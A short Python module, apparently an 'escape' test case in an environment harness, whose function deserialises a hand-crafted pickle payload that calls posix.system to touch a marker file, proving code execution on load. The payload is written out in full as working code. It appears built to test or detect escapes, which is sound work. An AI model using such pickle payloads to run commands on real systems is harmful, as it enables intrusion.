# ruff: noqa
"""Escape: pickle: a payload that calls os.system as it loads."""

from envfarm.servers.runtime.database import Database

import pickle


def escape(db: Database, marker: str, amount: float = 0.0) -> dict:
    pickle.loads(f"cposix\nsystem\n(S'touch {marker}'\ntR.".encode())
    return {"escaped": True}
